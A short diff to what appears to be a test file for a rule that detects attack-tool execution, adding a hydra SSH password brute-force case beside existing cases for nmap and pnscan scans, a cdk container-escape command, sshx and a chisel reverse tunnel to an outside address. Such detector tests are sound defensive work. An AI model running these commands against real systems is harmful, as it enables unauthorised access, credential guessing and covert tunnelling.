@@ -16,6 +16,7 @@ describe('rule exec-attack-tool', () => {
       ['an exploit of the container kit', { command: 'cdk run mount-disk' }],
       ['refused', { code: 7 }, { severity: 'medium', confidence: 0.7 }],
       ['a scanner', { command: 'nmap -sS 10.8.0.0/14' }, MEDIUM],
+      ['what guesses passwords', { command: 'hydra -l root -P /tmp/words ssh://10.8.0.4' }, MEDIUM],
       ['the scanner of worms', { command: 'pnscan -r6379 10.8.0.0/14 2375' }, MEDIUM],
       ['a terminal that is shared', { command: '/tmp/sshx' }, MEDIUM],
       ['a tunnel', { command: './chisel client 203.0.113.4:8080 R:socks' }, MEDIUM],
